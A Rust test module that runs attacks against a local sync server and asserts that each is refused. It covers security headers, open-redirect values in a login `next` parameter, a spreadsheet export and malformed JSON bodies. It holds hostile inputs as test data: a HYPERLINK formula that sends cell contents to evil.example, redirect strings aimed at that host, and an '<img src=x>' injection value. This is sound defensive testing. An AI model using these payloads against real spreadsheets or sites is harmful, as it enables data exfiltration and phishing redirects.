//! Attacks on the HTTP surface (issue 15, findings 1 and 7), against a real server on
//! 127.0.0.1: spreadsheets built to exhaust memory, imports by a role that may not import,
//! password guessing and user enumeration, framing and sniffing (security headers), an open
//! redirect through `next`, formulas smuggled into an export, and error bodies that described
//! the server's parser. Each is refused with a clear bilingual answer, the server stays up,
//! and nothing is stored (asserted on the server's database).

mod import;
mod login;

use std::io::Cursor;
use std::net::{IpAddr, Ipv4Addr};

use chrono::{DateTime, TimeZone, Utc};
use fieldbook_core::model::Customer;
use fieldbook_sync_server::ServerStore;
use serde_json::Value;

use crate::common::World;

pub(crate) const PASSWORD: &str = "correct horse battery";

pub(crate) fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 12, 1, 9, 0, 0).unwrap()
}

pub(crate) fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

/// A client whose connections come from `ip` (another loopback address).
pub(crate) fn client_from(ip: Ipv4Addr) -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .local_address(IpAddr::V4(ip))
        .build()
        .unwrap()
}

pub(crate) async fn json_of(resp: reqwest::Response) -> (u16, Value) {
    let status = resp.status().as_u16();
    let text = resp.text().await.unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// How many customers the server has stored (index documents aside).
pub(crate) fn customers(w: &World) -> usize {
    let docs = w.store.list_docs().unwrap();
    docs.iter().filter(|d| d.kind == "customer").count()
}

pub(crate) fn error_of(body: &Value) -> &str {
    body["error"].as_str().unwrap_or_default()
}

/// Chinese first, then ` / ` and English.
pub(crate) fn assert_bilingual(message: &str) {
    let (zh, en) = message.split_once(" / ").unwrap_or(("", ""));
    assert!(
        zh.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c))
            && en.is_ascii()
            && !en.is_empty(),
        "bilingual: {message}"
    );
}

/// The four security headers.
fn assert_secured(resp: &reqwest::Response, what: &str) {
    let h = |name: &str| {
        resp.headers()
            .get(name)
            .map(|v| v.to_str().unwrap().to_owned())
    };
    let csp = h("content-security-policy").unwrap_or_default();
    for part in [
        "default-src 'none'",
        "script-src 'self'",
        "frame-ancestors 'none'",
    ] {
        assert!(csp.contains(part), "{what}: {csp}");
    }
    assert!(!csp.contains("unsafe-inline"), "{what}: {csp}");
    assert_eq!(h("x-frame-options").as_deref(), Some("DENY"), "{what}");
    assert_eq!(
        h("x-content-type-options").as_deref(),
        Some("nosniff"),
        "{what}"
    );
    assert_eq!(
        h("referrer-policy").as_deref(),
        Some("no-referrer"),
        "{what}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_page_api_answer_and_error_carries_the_security_headers() {
    let w = World::start().await;
    let c = client();
    let li = &w.device("rep.li").token;
    let cases = [
        (c.get(w.http("/login")), 200, "the login page"),
        (c.get(w.http("/")), 303, "a redirect to sign in"),
        (c.get(w.http("/static/app.js")), 200, "a script"),
        (
            c.get(w.http("/api/v1/records")).bearer_auth(li),
            200,
            "an API answer",
        ),
        (c.get(w.http("/api/v1/records")), 401, "an API error"),
        (
            c.get(w.http("/no/such/page")),
            404,
            "the fallback's error page",
        ),
    ];
    for (req, status, what) in cases {
        let resp = req.send().await.unwrap();
        assert_eq!(resp.status().as_u16(), status, "{what}");
        assert_secured(&resp, what);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn next_goes_only_to_a_path_of_this_site() {
    let w = World::start().await;
    for next in [
        "/\t/evil.example",
        "//evil.example",
        "https://evil.example",
        "/\\evil",
        "/\n/evil.example",
    ] {
        let form = [("user", "rep.li"), ("password", PASSWORD), ("next", next)];
        let resp = client()
            .post(w.http("/login"))
            .form(&form)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 303, "{next:?}");
        assert_eq!(resp.headers()["location"], "/", "{next:?}");
        let url = reqwest::Url::parse_with_params(&w.http("/login"), [("next", next)]).unwrap();
        let page = client().get(url).send().await.unwrap();
        let html = page.text().await.unwrap();
        assert!(
            html.contains(r#"name="next""#) && !html.contains("evil"),
            "{next:?}: {html}"
        );
    }
    let form = [
        ("user", "rep.li"),
        ("password", PASSWORD),
        ("next", "/records?kind=customer"),
    ];
    let resp = client()
        .post(w.http("/login"))
        .form(&form)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.headers()["location"], "/records?kind=customer");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_typed_on_a_phone_reaches_the_export_as_text() {
    let w = World::start().await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"点我")"#;
    let li = w.device("rep.li");
    li.store
        .create(Customer {
            name: formula.into(),
            ..Customer::default()
        })
        .unwrap();
    li.sync().await;
    assert_eq!(customers(&w), 1);
    let get = |ext: &str| {
        let url = w.http(&format!("/api/v1/records/export.{ext}?kind=customer"));
        client()
            .get(url)
            .bearer_auth(&w.device("cs.zhou").token)
            .send()
    };
    let csv = get("csv").await.unwrap().text().await.unwrap();
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let titles: Vec<String> = rows.records().map(|r| r.unwrap()[2].to_owned()).collect();
    assert_eq!(titles, [format!("'{formula}")], "{csv}");
    let xlsx = get("xlsx").await.unwrap().bytes().await.unwrap();
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::Xlsx::new(Cursor::new(xlsx.to_vec())).unwrap();
    let formulas = book.worksheet_formula("记录 Records").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula cell"
    );
    let values = book.worksheet_range("记录 Records").unwrap();
    assert_eq!(
        values.get((1, 2)).map(ToString::to_string).as_deref(),
        Some(formula)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_malformed_body_is_answered_without_the_parsers_words() {
    let w = World::start().await;
    let sup = &w.device("sup.zhao").token;
    let review = w.http(&format!(
        "/api/v1/records/{}/review",
        fieldbook_core::RecordId::from_random_bytes([9; 16])
    ));
    let cases = [
        (
            w.http("/api/v1/devices/login"),
            None,
            r#"{"user": "rep.li", "password": 5}"#,
            "field password",
        ),
        (
            w.http("/api/v1/devices/login"),
            None,
            r#"{"user": "rep.li", "#,
            "",
        ),
        (
            w.http("/api/v1/devices/login"),
            None,
            r#"{"user":"a","password":"b","<img src=x>":1}"#,
            "",
        ),
        (
            review.clone(),
            Some(sup),
            r#"{"guidance": ["x"]}"#,
            "field guidance",
        ),
        (review, Some(sup), "[1, 2", ""),
    ];
    for (url, token, body, field) in cases {
        let req = client()
            .post(url)
            .header("content-type", "application/json")
            .body(body);
        let req = match token {
            Some(t) => req.bearer_auth(t),
            None => req,
        };
        let (s, answer) = json_of(req.send().await.unwrap()).await;
        assert_eq!(s, 400, "{body}: {answer}");
        let e = error_of(&answer);
        assert!(
            e.starts_with("请求体无效") && e.contains("invalid JSON body"),
            "{e}"
        );
        assert!(e.contains(field), "{body}: {e}");
        for internal in [
            "line",
            "column",
            "expected",
            "deserialize",
            "<img",
            "invalid type",
        ] {
            assert!(!e.contains(internal), "{body}: {e}");
        }
    }
    // A query names the parameter at most, never the parser's words or foreign markup.
    for (query, named) in [
        ("page=abc", "page"),
        ("colour=red", "colour"),
        ("%3Cb%3E=1", ""),
    ] {
        let url = w.http(&format!("/api/v1/records?{query}"));
        let (s, answer) = json_of(client().get(url).bearer_auth(sup).send().await.unwrap()).await;
        let e = error_of(&answer);
        assert_eq!(s, 400, "{query}: {answer}");
        assert_eq!(
            e.trim_end_matches(named).trim_end_matches(": "),
            "查询参数无效 / invalid query"
        );
        assert!(
            !e.contains("digit") && !e.contains("expected") && !e.contains('<'),
            "{e}"
        );
    }
    assert_eq!(w.store.list_docs().unwrap().len(), 0, "nothing stored");
}
